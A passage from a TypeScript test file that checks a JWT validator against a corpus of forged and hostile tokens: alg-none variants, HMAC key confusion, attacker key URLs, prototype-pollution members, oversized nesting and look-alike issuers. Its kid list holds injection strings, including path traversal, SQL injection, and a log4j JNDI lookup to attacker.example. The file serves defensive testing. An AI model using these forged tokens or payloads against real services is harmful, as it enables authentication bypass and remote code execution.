import { createHash, createPublicKey, generateKeyPairSync, type KeyObject } from "node:crypto";
import { describe, expect, it } from "vitest";
import {
  createValidator,
  type ErrorCode,
  isPicketValidationError,
  type PicketAccessToken,
  type Requirements,
  type ValidatorOptions,
} from "../../src/index.js";
import { createTestIssuer } from "../../src/testing/index.js";
import {
  decodePart,
  ecdsaSigner,
  encodePart,
  forgeToken,
  hmacSigner,
  privateKeyOf,
  rsaSigner,
  tokenParts,
  zeroSignature,
} from "../helpers/forge.js";

// A self-contained corpus of hostile tokens and key sets, each with the exact outcome the
// contract (shared/spec/api.md) demands from both `validate` and `validateSync`. Some attacks are
// also covered by test/verify/*.test.ts; this table keeps them all in one place, with the reason
// for each expected code. The clock is fixed, so time claims are exact.
//
// Decisions recorded here:
// - Duplicate JSON members: JSON.parse keeps the last one, which RFC 7515 §4 allows ("use a JSON
//   parser that returns only the lexically last duplicate member name"). That is safe: the
//   signature covers the exact bytes, so a token with duplicates is either signed by the issuer
//   as it stands (its last members are what the issuer signed) or it fails the signature. The
//   last `alg` must itself be allowed, so `{"alg":"ES256","alg":"none"}` is refused.
// - `__proto__` and `constructor` members are plain data: JSON.parse makes them own properties,
//   never prototypes, so a claim or header member hidden behind them is not seen, and nothing is
//   polluted (checked after every case).
// - A kid is only a lookup key: it never reaches a path, a URL or a query, and error messages
//   show at most 64 characters of it.
// - A kid shared by two keys of the key set: both keys come from the trusted set, so a token
//   verifying with either is the issuer's; both are tried.
// - Members of an `aud` array other than the project ID are not checked (a non-string beside it
//   is harmless), and fractional NumericDates are accepted (RFC 7519 §2 allows them).

const NOW_MS = Date.UTC(2026, 0, 1, 12, 0, 0);
const NOW = NOW_MS / 1000;
const clock = () => NOW_MS;

const issuer = createTestIssuer({ clock, projectId: "5b0d7c9a-3f6e-4a2b-9c1d-8e7f6a5b4c3d" });
const projectId = issuer.projectId;
const issuerPrivateKey = privateKeyOf(issuer);
const issuerPublicJwk = issuer.jwks.keys[0] as Record<string, unknown>;
const issuerKid = issuerPublicJwk.kid as string;
const issuerPublicKey = createPublicKey(issuerPrivateKey);
const coreJwk = issuerPublicKey.export({ format: "jwk" });
const xBytes = decodePart(coreJwk.x as string);
const yBytes = decodePart(coreJwk.y as string);
const attacker = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
const twinA = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
const twinB = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
const leaked = generateKeyPairSync("ec", { namedCurve: "prime256v1" });
const p384 = generateKeyPairSync("ec", { namedCurve: "secp384r1" });
const rsa = generateKeyPairSync("rsa", { modulusLength: 2048 });

const byIssuer = ecdsaSigner(issuerPrivateKey);
const byAttacker = ecdsaSigner(attacker.privateKey);

/** Claims that pass every check at NOW. */
const good: Record<string, unknown> = {
  iss: "picketapi.com",
  aud: projectId,
  sub: `ethereum:${issuer.walletAddress}`,
  chain: "ethereum",
  walletAddress: issuer.walletAddress,
  iat: NOW - 10,
  exp: NOW + 3600,
  tid: "4d0f8a4e-6a8b-4c55-9b3a-0c3f4a8e2d11",
  ver: 1,
};
const goodJson = JSON.stringify(good);
const ES256_HEADER = '{"alg":"ES256","typ":"JWT"}';

function without(...names: string[]): Record<string, unknown> {
  return Object.fromEntries(Object.entries(good).filter(([name]) => !names.includes(name)));
}

/** Claims as raw JSON text: `prefix` members first (duplicates, `__proto__`...), then `base`. */
function rawClaims(prefix: string, base: Record<string, unknown> = good): string {
  return `{${prefix},${JSON.stringify(base).slice(1)}`;
}

function head(members: Record<string, unknown>): string {
  return JSON.stringify({ alg: "ES256", typ: "JWT", ...members });
}

/** A token signed by the issuer: the good claims with `claims` over them. */
function issued(claims: Record<string, unknown> = {}, header = ES256_HEADER): string {
  return forgeToken(header, JSON.stringify({ ...good, ...claims }), byIssuer);
}

function publicJwk(key: KeyObject, members: Record<string, unknown> = {}): Record<string, unknown> {
  return { ...key.export({ format: "jwk" }), ...members };
}

/** The EMSA-PKCS1-v1_5 SHA-256 encoding of a message: with e = 1 it is its own RSA signature. */
function pkcs1Sha256(input: Buffer, modulusBytes: number): Buffer {
  const digestInfo = Buffer.concat([
    Buffer.from("3031300d060960864801650304020105000420", "hex"),
    createHash("sha256").update(input).digest(),
  ]);
  const padding = Buffer.alloc(modulusBytes - digestInfo.length - 3, 0xff);
  return Buffer.concat([Buffer.from([0x00, 0x01]), padding, Buffer.from([0x00]), digestInfo]);
}

/** Nested JSON text: `depth` arrays, or `depth` objects `{"a":...}`. */
function nested(depth: number, kind: "array" | "object"): string {
  return kind === "array"
    ? `${"[".repeat(depth)}${"]".repeat(depth)}`
    : `${'{"a":'.repeat(depth)}1${"}".repeat(depth)}`;
}

// ---------------------------------------------------------------------------------------------
// The corpus.

type Outcome = ErrorCode | "VALID";

interface AttackCase {
  category: string;
  name: string;
  token: unknown;
  /** The outcome of `validate`. */
  expected: Outcome;
  /** The outcome of `validateSync` where it differs (a key set that never loads). */
  expectedSync?: Outcome;
  /** Options over the default offline validator (the issuer's key set, the fixed clock). */
  options?: Partial<ValidatorOptions>;
  requirements?: Requirements;
  /** More checks on the claims of a valid outcome. */
  check?: (claims: PicketAccessToken) => void;
}

const HS_KEY_ENCODINGS: [string, string | Buffer][] = [
  ["the published JWK as JSON text", JSON.stringify(issuerPublicJwk)],
  ["the bare JWK (kty, crv, x, y) as JSON text", JSON.stringify(coreJwk)],
  ["the JWKS document as JSON text", JSON.stringify(issuer.jwks)],
  ["the SPKI PEM", issuerPublicKey.export({ type: "spki", format: "pem" }) as string],
  [
    "the SPKI PEM without its final newline",
    (issuerPublicKey.export({ type: "spki", format: "pem" }) as string).trimEnd(),
  ],
  ["the SPKI DER bytes", issuerPublicKey.export({ type: "spki", format: "der" })],
  [
    "the SPKI DER as base64 text",
    issuerPublicKey.export({ type: "spki", format: "der" }).toString("base64"),
  ],
  ["the uncompressed point 04||x||y", Buffer.concat([Buffer.from([4]), xBytes, yBytes])],
  [
    "the compressed point",
    Buffer.concat([Buffer.from([((yBytes[31] as number) & 1) === 0 ? 2 : 3]), xBytes]),
  ],
  ["x||y", Buffer.concat([xBytes, yBytes])],
  ["the x coordinate bytes", xBytes],
  ["the x coordinate as base64url text", coreJwk.x as string],
  ["the kid", issuerKid],
  ["an empty key", ""],
];

const INJECTION_KIDS: [string, string][] = [
  ["path traversal", "../../etc/passwd"],
  ["absolute path", "/etc/passwd"],
  ["encoded traversal", "..%2f..%2fetc%2fpasswd"],
  ["SQL injection", "' OR 1=1 --"],
  ["NoSQL operator text", '{"$ne":null}'],
  ["a NUL character", "\u0000"],
  ["the real kid followed by NUL", `${issuerKid}\u0000`],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: the log4j lookup text is the attack
  ["log4j lookup", "${jndi:ldap://attacker.example/a}"],
  ["HTML", "<script>alert(1)</script>"],
  ["a URL", "https://attacker.example/jwks.json"],
  ["CRLF header injection", "x\r\nX-Injected: 1"],
  ["__proto__", "__proto__"],
  ["constructor", "constructor"],
  ["toString", "toString"],
  ["hasOwnProperty", "hasOwnProperty"],
  ["an empty string", ""],
  ["the real kid in upper case", issuerKid.toUpperCase()],
  ["the real kid with a trailing space", `${issuerKid} `],
  ["4,000 characters", "A".repeat(4000)],
];

const LOOKALIKE_ISSUERS: [string, string][] = [
  ["Cyrillic і (U+0456)", "picketap\u0456.com"],
  ["Cyrillic о (U+043E)", "picketapi.c\u043em"],
  ["Greek ο (U+03BF)", "picketapi.c\u03bfm"],
  [
    "fullwidth letters",
    "\uff50\uff49\uff43\uff4b\uff45\uff54\uff41\uff50\uff49.\uff43\uff4f\uff4d",
  ],
  ["a zero-width space at the end", "picketapi.com\u200b"],
  ["a zero-width joiner inside", "picket\u200dapi.com"],
  ["a BOM in front", "\ufeffpicketapi.com"],
  ["one-dot leader for the dot", "picketapi\u2024com"],
  ["a combining acute accent", "picketapi.co\u006d\u0301"],
  ["upper case", "PICKETAPI.COM"],
  ["a trailing dot", "picketapi.com."],
  ["a leading space", " picketapi.com"],
  ["the https origin", "https://picketapi.com"],
  ["a suffix domain", "picketapi.com.attacker.example"],
];

const MALFORMED_TIMES: [string, string, unknown][] = [
  ["exp", "a numeric string", String(NOW + 3600)],
  ["exp", "the string NaN", "NaN"],
  ["exp", "the string Infinity", "Infinity"],
  ["exp", "the string 1e308", "1e308"],
  ["exp", "a hex string", "0x7fffffff"],
  ["exp", "null", null],
  ["exp", "true", true],
  ["exp", "an array", [NOW + 3600]],
  ["exp", "an operator object", { $gt: 0 }],
  ["nbf", "a numeric string", "0"],
  ["nbf", "the string NaN", "NaN"],
  ["iat", "a numeric string", String(NOW)],
  ["iat", "the string NaN", "NaN"],
];

const many = (count: number, make: (index: number) => string): string[] =>
  Array.from({ length: count }, (_, index) => make(index));

/** JWKS fetched from a stand-in endpoint as this exact text (offline: a stubbed fetch). */
function fetchedJwks(text: string): Partial<ValidatorOptions> {
  return {
    jwksUri: "https://keys.example/.well-known/jwks.json",
    fetch: (async () =>
      new Response(text, {
        status: 200,
        headers: { "content-type": "application/json" },
      })) as typeof fetch,
  };
}

const rsaE1 = {
  kty: "RSA",
  kid: "e1",
  alg: "RS256",
  use: "sig",
  n: rsa.publicKey.export({ format: "jwk" }).n as string,
  e: "AQ",
};

function corpus(): AttackCase[] {
  const cases: AttackCase[] = [
    // The baseline: without it, every rejection below could be a broken validator.
    { category: "baseline", name: "the issuer's own token", token: issued(), expected: "VALID" },

    // --- alg: none and its spellings ----------------------------------------------------------
    ...["none", "None", "nOnE", "NONE"].map(
      (alg): AttackCase => ({
        category: "alg none",
        name: `alg "${alg}" with a 64-byte signature part`,
        token: forgeToken(JSON.stringify({ alg, typ: "JWT" }), goodJson, zeroSignature),
        expected: "ERR_ALG_NOT_ALLOWED",
      }),
    ),
    {
      category: "alg none",
      name: 'alg "none" with an empty signature part (structure fails first)',
      token: `${encodePart('{"alg":"none","typ":"JWT"}')}.${encodePart(goodJson)}.`,
      expected: "ERR_TOKEN_MALFORMED",
    },
    {
      category: "alg none",
      name: 'alg "none" signed by the issuer\'s key',
      token: forgeToken('{"alg":"none"}', goodJson, byIssuer),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    ...(
      [
        ["ES256 with a trailing space", "ES256 "],
        ["es256", "es256"],
        ["null", null],
        ["an array", ["ES256"]],
        ["an object", { name: "ES256" }],
      ] as [string, unknown][]
    ).map(
      ([label, alg]): AttackCase => ({
        category: "alg",
        name: `alg ${label}, signed by the issuer`,
        token: forgeToken(JSON.stringify({ alg, typ: "JWT" }), goodJson, byIssuer),
        expected: "ERR_ALG_NOT_ALLOWED",
      }),
    ),
    {
      category: "alg",
      name: "no alg, signed by the issuer",
      token: forgeToken('{"typ":"JWT"}', goodJson, byIssuer),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "alg",
      name: "ES384 with a P-384 key in the key set (not allowed by default)",
      token: forgeToken(
        '{"alg":"ES384","kid":"p384"}',
        goodJson,
        ecdsaSigner(p384.privateKey, "sha384"),
      ),
      options: {
        jwks: { keys: [...issuer.jwks.keys, publicJwk(p384.publicKey, { kid: "p384" })] },
      },
      expected: "ERR_ALG_NOT_ALLOWED",
    },

    // --- HS256 keyed with the public key, in every encoding -------------------------------------
    ...HS_KEY_ENCODINGS.flatMap(([label, secret]): AttackCase[] =>
      ["HS256", "HS384", "HS512"].map((alg) => ({
        category: "HMAC key confusion",
        name: `${alg} keyed with ${label}`,
        token: forgeToken(
          JSON.stringify({ alg, typ: "JWT" }),
          goodJson,
          hmacSigner(secret, `sha${alg.slice(2)}`),
        ),
        expected: "ERR_ALG_NOT_ALLOWED",
      })),
    ),
    {
      category: "HMAC key confusion",
      name: "HS256 keyed with the published JWK, naming the issuer's kid",
      token: forgeToken(
        JSON.stringify({ alg: "HS256", kid: issuerKid }),
        goodJson,
        hmacSigner(JSON.stringify(issuerPublicJwk)),
      ),
      expected: "ERR_ALG_NOT_ALLOWED",
    },

    // --- kid injection: the issuer's real signature, a hostile kid -----------------------------
    ...INJECTION_KIDS.map(
      ([label, kid]): AttackCase => ({
        category: "kid injection",
        name: `kid: ${label}`,
        token: issued({}, head({ kid })),
        expected: "ERR_KEY_NOT_FOUND",
      }),
    ),
    {
      category: "kid injection",
      name: "kid of 10,000 characters (over maxTokenBytes)",
      token: issued({}, head({ kid: "A".repeat(10_000) })),
      expected: "ERR_TOKEN_TOO_LARGE",
    },
    {
      category: "kid injection",
      name: "the real kid (control)",
      token: issued({}, head({ kid: issuerKid })),
      expected: "VALID",
    },
    ...(
      [
        ["a number", 1],
        ["zero", 0],
        ["an object", { kid: issuerKid }],
        ["an array", [issuerKid]],
        ["null", null],
        ["true", true],
      ] as [string, unknown][]
    ).map(
      ([label, kid]): AttackCase => ({
        category: "kid type",
        name: `kid as ${label}`,
        token: issued({}, head({ kid })),
        expected: "ERR_TOKEN_MALFORMED",
      }),
    ),

    // --- embedded keys and key URLs --------------------------------------------------------------
    {
      category: "embedded key",
      name: "jwk header with the attacker's key, signed by the attacker",
      token: forgeToken(head({ jwk: publicJwk(attacker.publicKey) }), goodJson, byAttacker),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "embedded key",
      name: "jwk header with the issuer's own key, signed by the issuer",
      token: issued({}, head({ jwk: issuerPublicJwk })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "embedded key",
      name: "jwk header set to null",
      token: issued({}, head({ jwk: null })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "embedded key",
      name: "jku to the attacker's key set, with the issuer's kid",
      token: forgeToken(
        head({ jku: "https://attacker.example/jwks.json", kid: issuerKid }),
        goodJson,
        byAttacker,
      ),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "embedded key",
      name: "x5u to the attacker's certificate",
      token: forgeToken(head({ x5u: "https://attacker.example/cert.pem" }), goodJson, byAttacker),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "embedded key",
      name: "x5c with the attacker's key",
      token: forgeToken(
        head({
          x5c: [attacker.publicKey.export({ type: "spki", format: "der" }).toString("base64")],
        }),
        goodJson,
        byAttacker,
      ),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "header",
      name: "crit naming exp",
      token: issued({}, head({ crit: ["exp"], exp: 1 })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "header",
      name: "an empty crit",
      token: issued({}, head({ crit: [] })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "header",
      name: "b64: false",
      token: issued({}, head({ b64: false })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "header",
      name: 'b64: "false" (a string)',
      token: issued({}, head({ b64: "false" })),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "header",
      name: "b64: true (the default, allowed)",
      token: issued({}, head({ b64: true })),
      expected: "VALID",
    },

    // --- duplicate JSON members ----------------------------------------------------------------
    {
      category: "duplicate members",
      name: 'header {"alg":"none","alg":"ES256"} signed by the issuer: the last alg is what was signed',
      token: forgeToken('{"alg":"none","alg":"ES256","typ":"JWT"}', goodJson, byIssuer),
      expected: "VALID",
    },
    {
      category: "duplicate members",
      name: 'header {"alg":"ES256","alg":"none"} signed by the issuer',
      token: forgeToken('{"alg":"ES256","alg":"none"}', goodJson, byIssuer),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "duplicate members",
      name: 'header {"alg":"none","alg":"ES256"} signed by the attacker',
      token: forgeToken('{"alg":"none","alg":"ES256"}', goodJson, byAttacker),
      expected: "ERR_SIGNATURE_INVALID",
    },
    {
      category: "duplicate members",
      name: "two kids, the real one last",
      token: forgeToken(`{"alg":"ES256","kid":"evil","kid":"${issuerKid}"}`, goodJson, byIssuer),
      expected: "VALID",
    },
    {
      category: "duplicate members",
      name: "two kids, the real one first",
      token: forgeToken(`{"alg":"ES256","kid":"${issuerKid}","kid":"evil"}`, goodJson, byIssuer),
      expected: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "duplicate members",
      name: "two aud members, the project last",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"aud":"another-project"', { ...without("aud"), aud: projectId }),
        byIssuer,
      ),
      expected: "VALID",
      check: (claims) => expect(claims.aud).toBe(projectId),
    },
    {
      category: "duplicate members",
      name: "two aud members, the project first",
      token: forgeToken(
        ES256_HEADER,
        `{"aud":"${projectId}",${JSON.stringify({ ...without("aud"), aud: "another-project" }).slice(1)}`,
        byIssuer,
      ),
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "duplicate members",
      name: "two iss members, an attacker's last",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"iss":"picketapi.com"', { ...without("iss"), iss: "attacker.example" }),
        byIssuer,
      ),
      expected: "ERR_ISSUER_INVALID",
    },
    {
      category: "duplicate members",
      name: "two exp members, a past one last",
      token: forgeToken(
        ES256_HEADER,
        rawClaims(`"exp":${NOW + 3600}`, { ...without("exp"), exp: NOW - 1 }),
        byIssuer,
      ),
      expected: "ERR_TOKEN_EXPIRED",
    },
    {
      category: "duplicate members",
      name: "two walletAddress members: the last is the one returned",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"walletAddress":"0x000000000000000000000000000000000000dEaD"'),
        byIssuer,
      ),
      expected: "VALID",
      check: (claims) => expect(claims.walletAddress).toBe(issuer.walletAddress),
    },
    {
      category: "duplicate members",
      name: "a tampered duplicate aud with the original signature",
      token: (() => {
        const original = forgeToken(
          ES256_HEADER,
          rawClaims('"aud":"x"', { ...without("aud"), aud: "another-project" }),
          byIssuer,
        );
        const [h, , s] = tokenParts(original);
        const tampered = rawClaims('"aud":"x"', { ...without("aud"), aud: projectId });
        return `${h}.${encodePart(tampered)}.${s}`;
      })(),
      expected: "ERR_SIGNATURE_INVALID",
    },

    // --- __proto__ and constructor --------------------------------------------------------------
    {
      category: "prototype",
      name: "header __proto__ hiding a jku: not a header member, nothing polluted",
      token: forgeToken(
        '{"alg":"ES256","__proto__":{"jku":"https://attacker.example/jwks.json","polluted":"yes"}}',
        goodJson,
        byIssuer,
      ),
      expected: "VALID",
    },
    {
      category: "prototype",
      name: "header with alg only behind __proto__",
      token: forgeToken('{"__proto__":{"alg":"ES256"}}', goodJson, byIssuer),
      expected: "ERR_ALG_NOT_ALLOWED",
    },
    {
      category: "prototype",
      name: "header constructor.prototype",
      token: forgeToken(
        '{"alg":"ES256","constructor":{"prototype":{"polluted":"yes"}}}',
        goodJson,
        byIssuer,
      ),
      expected: "VALID",
    },
    {
      category: "prototype",
      name: "payload __proto__ member: kept as data, the prototype untouched",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"__proto__":{"polluted":"yes","admin":true}'),
        byIssuer,
      ),
      expected: "VALID",
      check: (claims) => {
        expect((claims as Record<string, unknown>).polluted).toBeUndefined();
        expect((claims as Record<string, unknown>).admin).toBeUndefined();
        expect(Object.hasOwn(claims, "__proto__")).toBe(true);
      },
    },
    {
      category: "prototype",
      name: "payload with iss and aud only behind __proto__",
      token: forgeToken(
        ES256_HEADER,
        rawClaims(
          `"__proto__":{"iss":"picketapi.com","aud":"${projectId}"}`,
          without("iss", "aud"),
        ),
        byIssuer,
      ),
      expected: "ERR_ISSUER_INVALID",
    },
    {
      category: "prototype",
      name: "payload with exp only behind __proto__",
      token: forgeToken(
        ES256_HEADER,
        rawClaims(`"__proto__":{"exp":${NOW + 3600}}`, without("exp")),
        byIssuer,
      ),
      expected: "ERR_CLAIM_INVALID",
    },
    {
      category: "prototype",
      name: "payload with the wallet only behind __proto__",
      token: forgeToken(
        ES256_HEADER,
        rawClaims(
          '"__proto__":{"walletAddress":"0xabc","sub":"ethereum:0xabc"}',
          without("walletAddress", "sub"),
        ),
        byIssuer,
      ),
      expected: "ERR_CLAIM_INVALID",
    },
    {
      category: "prototype",
      name: "payload constructor.prototype",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"constructor":{"prototype":{"polluted":"yes"}}'),
        byIssuer,
      ),
      expected: "VALID",
      check: (claims) => expect(claims.constructor).toEqual({ prototype: { polluted: "yes" } }),
    },
    {
      category: "prototype",
      name: "payload shadowing Object.prototype methods",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"hasOwnProperty":1,"toString":"x","valueOf":null,"toJSON":"y"'),
        byIssuer,
      ),
      expected: "VALID",
      check: (claims) => expect((claims as Record<string, unknown>).hasOwnProperty).toBe(1),
    },
    {
      category: "prototype",
      name: "balances behind tokenBalances.__proto__ do not count",
      token: forgeToken(
        ES256_HEADER,
        rawClaims(
          '"tokenBalances":{"__proto__":{"contractAddress":{"0x8a90cab2b38dba80c64b7734e58ee1db38b8992e":"100"}}}',
        ),
        byIssuer,
      ),
      requirements: { contractAddress: "0x8a90cab2b38dba80c64b7734e58ee1db38b8992e" },
      expected: "ERR_REQUIREMENTS_NOT_MET",
    },
    {
      category: "prototype",
      name: "a balance keyed __proto__ does not count for a contract",
      token: forgeToken(
        ES256_HEADER,
        rawClaims('"tokenBalances":{"contractAddress":{"__proto__":"100"}}'),
        byIssuer,
      ),
      requirements: { contractAddress: "0x8a90cab2b38dba80c64b7734e58ee1db38b8992e" },
      expected: "ERR_REQUIREMENTS_NOT_MET",
    },

    // --- nesting and size ---------------------------------------------------------------------------
    {
      category: "nesting",
      name: "2,500 nested arrays in a claim (within maxTokenBytes)",
      token: forgeToken(ES256_HEADER, rawClaims(`"deep":${nested(2500, "array")}`), byIssuer),
      expected: "VALID",
      check: (claims) => {
        let level: unknown = claims.deep;
        for (let depth = 0; depth < 2500; depth += 1) {
          expect(Array.isArray(level) && Object.isFrozen(level)).toBe(true);
          level = (level as unknown[])[0];
        }
      },
    },
    {
      category: "nesting",
      name: "800 nested objects in a claim (within maxTokenBytes)",
      token: forgeToken(ES256_HEADER, rawClaims(`"deep":${nested(800, "object")}`), byIssuer),
      expected: "VALID",
    },
    {
      category: "nesting",
      name: "100,000 nested arrays (beyond maxTokenBytes)",
      token: forgeToken(ES256_HEADER, rawClaims(`"deep":${nested(100_000, "array")}`), byIssuer),
      expected: "ERR_TOKEN_TOO_LARGE",
    },
    {
      category: "nesting",
      name: "100,000 nested arrays, unsigned, with maxTokenBytes raised (fails at the signature)",
      token: forgeToken(ES256_HEADER, rawClaims(`"deep":${nested(100_000, "array")}`), byAttacker),
      options: { maxTokenBytes: 1_000_000 },
      expected: "ERR_SIGNATURE_INVALID",
    },
    {
      category: "nesting",
      name: "100,000 nested arrays signed by the issuer, with maxTokenBytes raised",
      token: forgeToken(ES256_HEADER, rawClaims(`"deep":${nested(100_000, "array")}`), byIssuer),
      options: { maxTokenBytes: 1_000_000 },
      expected: "VALID",
    },
    {
      category: "size",
      name: "1 MB of claims",
      token: issued({ padding: "x".repeat(1_048_576) }),
      expected: "ERR_TOKEN_TOO_LARGE",
    },
    {
      category: "size",
      name: "1 MB of claims, unsigned (the size is checked before anything else)",
      token: `${encodePart(ES256_HEADER)}.${"A".repeat(1_048_576)}.${"A".repeat(86)}`,
      expected: "ERR_TOKEN_TOO_LARGE",
    },
    {
      category: "size",
      name: "1 MB of claims with maxTokenBytes raised to 2 MB",
      token: issued({ padding: "x".repeat(1_048_576) }),
      options: { maxTokenBytes: 2_000_000 },
      expected: "VALID",
    },
    {
      category: "size",
      name: "3,000 '€' (3,000 characters, 9,000 bytes): the limit counts bytes",
      token: "€".repeat(3000),
      expected: "ERR_TOKEN_TOO_LARGE",
    },

    // --- look-alike issuers and audiences ---------------------------------------------------------
    ...LOOKALIKE_ISSUERS.map(
      ([label, iss]): AttackCase => ({
        category: "look-alike issuer",
        name: `iss with ${label}`,
        token: issued({ iss }),
        expected: "ERR_ISSUER_INVALID",
      }),
    ),
    {
      category: "look-alike audience",
      name: "aud in upper case",
      token: issued({ aud: projectId.toUpperCase() }),
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "look-alike audience",
      name: "aud with a zero-width space",
      token: issued({ aud: `${projectId}\u200b` }),
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "look-alike audience",
      name: "aud with a Cyrillic а for the first a",
      token: issued({ aud: projectId.replace("a", "\u0430") }),
      expected: "ERR_AUDIENCE_INVALID",
    },

    // --- huge aud arrays -----------------------------------------------------------------------------
    {
      category: "aud array",
      name: "10,000 audiences ending with the project (maxTokenBytes raised)",
      token: issued({ aud: [...many(9999, (index) => `p${index}`), projectId] }),
      options: { maxTokenBytes: 200_000 },
      expected: "VALID",
      check: (claims) => expect((claims.aud as string[]).length).toBe(10_000),
    },
    {
      category: "aud array",
      name: "10,000 audiences without the project (maxTokenBytes raised)",
      token: issued({ aud: many(10_000, (index) => `p${index}`) }),
      options: { maxTokenBytes: 200_000 },
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "aud array",
      name: "10,000 audiences at the default maxTokenBytes",
      token: issued({ aud: [...many(9999, (index) => `p${index}`), projectId] }),
      expected: "ERR_TOKEN_TOO_LARGE",
    },
    {
      category: "aud array",
      name: "10,000 look-alikes of the project",
      token: issued({ aud: many(10_000, () => projectId.toUpperCase()) }),
      options: { maxTokenBytes: 600_000 },
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "aud array",
      name: "the project nested one array deeper",
      token: issued({ aud: [[projectId]] }),
      expected: "ERR_AUDIENCE_INVALID",
    },
    {
      category: "aud array",
      name: "the project beside non-strings",
      token: issued({ aud: [1, null, { aud: projectId }, projectId] }),
      expected: "VALID",
    },

    // --- time claims ------------------------------------------------------------------------------
    ...MALFORMED_TIMES.map(
      ([claim, label, value]): AttackCase => ({
        category: "time claims",
        name: `${claim} as ${label}`,
        token: issued({ [claim]: value }),
        expected: "ERR_CLAIM_INVALID",
      }),
    ),
    {
      category: "time claims",
      name: "exp missing, legacy ext as a numeric string",
      token: forgeToken(
        ES256_HEADER,
        JSON.stringify({ ...without("exp"), ext: String(NOW + 3600) }),
        byIssuer,
      ),
      expected: "ERR_CLAIM_INVALID",
    },
    ...(
      [
        ["exp", "1e999 (Infinity once parsed)", "1e999", "ERR_CLAIM_INVALID"],
        ["exp", "-1e999 (-Infinity once parsed)", "-1e999", "ERR_CLAIM_INVALID"],
        ["exp", "1e308", "1e308", "VALID"],
        ["exp", "a float an hour ahead", `${NOW + 3600.5}`, "VALID"],
        ["exp", "a float half a second ago", `${NOW - 0.5}`, "ERR_TOKEN_EXPIRED"],
        ["exp", "0", "0", "ERR_TOKEN_EXPIRED"],
        ["exp", "-1", "-1", "ERR_TOKEN_EXPIRED"],
        ["exp", "-1e308", "-1e308", "ERR_TOKEN_EXPIRED"],
        ["exp", "-0", "-0", "ERR_TOKEN_EXPIRED"],
        ["nbf", "1e308", "1e308", "ERR_TOKEN_NOT_YET_VALID"],
        ["nbf", "-1", "-1", "VALID"],
        [
          "nbf",
          "a float half a second past futureSkew",
          `${NOW + 60.5}`,
          "ERR_TOKEN_NOT_YET_VALID",
        ],
        ["nbf", "1e999", "1e999", "ERR_CLAIM_INVALID"],
        ["iat", "1e308", "1e308", "ERR_TOKEN_NOT_YET_VALID"],
        ["iat", "-1e308", "-1e308", "VALID"],
        ["iat", "a float half a second ago", `${NOW - 0.5}`, "VALID"],
      ] as [string, string, string, Outcome][]
    ).map(
      ([claim, label, raw, expected]): AttackCase => ({
        category: "time claims",
        name: `${claim} as ${label}`,
        token: forgeToken(ES256_HEADER, rawClaims(`"${claim}":${raw}`, without(claim)), byIssuer),
        expected,
      }),
    ),
    {
      category: "time claims",
      name: "iat -1 with maxTokenAge",
      token: issued({ iat: -1 }),
      options: { maxTokenAge: 3600 },
      expected: "ERR_CLAIM_INVALID",
    },

    // --- hostile key sets ---------------------------------------------------------------------------
    ...(
      [
        ["signed by the first key", twinA.privateKey, "dup", "VALID"],
        ["signed by the second key", twinB.privateKey, "dup", "VALID"],
        [
          "signed by neither, naming the shared kid",
          attacker.privateKey,
          "dup",
          "ERR_SIGNATURE_INVALID",
        ],
        ["signed by the second key, no kid", twinB.privateKey, undefined, "VALID"],
      ] as [string, KeyObject, string | undefined, Outcome][]
    ).map(
      ([label, key, kid, expected]): AttackCase => ({
        category: "JWKS: same kid twice",
        name: label,
        token: forgeToken(head(kid === undefined ? {} : { kid }), goodJson, ecdsaSigner(key)),
        options: {
          jwks: {
            keys: [
              publicJwk(createPublicKey(twinA.privateKey), { kid: "dup", use: "sig" }),
              publicJwk(createPublicKey(twinB.privateKey), { kid: "dup", use: "sig" }),
            ],
          },
        },
        expected,
      }),
    ),
    {
      category: "JWKS: private key",
      name: "a key set holding only a private key; a token it signed",
      token: forgeToken(head({ kid: "leaked" }), goodJson, ecdsaSigner(leaked.privateKey)),
      options: {
        jwks: { keys: [{ ...leaked.privateKey.export({ format: "jwk" }), kid: "leaked" }] },
      },
      expected: "ERR_JWKS_INVALID",
      expectedSync: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "JWKS: private key",
      name: "a private key beside the issuer's: a token naming it",
      token: forgeToken(head({ kid: "leaked" }), goodJson, ecdsaSigner(leaked.privateKey)),
      options: {
        jwks: {
          keys: [
            ...issuer.jwks.keys,
            { ...leaked.privateKey.export({ format: "jwk" }), kid: "leaked" },
          ],
        },
      },
      expected: "ERR_KEY_NOT_FOUND",
    },
    {
      category: "JWKS: private key",
      name: "a private key beside the issuer's: a token without kid",
      token: forgeToken(ES256_HEADER, goodJson, ecdsaSigner(leaked.privateKey)),
      options: {
        jwks: { keys: [...issuer.jwks.keys, leaked.privateKey.export({ format: "jwk" })] },
      },
      expected: "ERR_SIGNATURE_INVALID",
    },
    {
      category: "JWKS: RSA key for ES256",
      name: "an RSA key labelled ES256, alone",
      token: issued({}, head({ kid: "rsa" })),
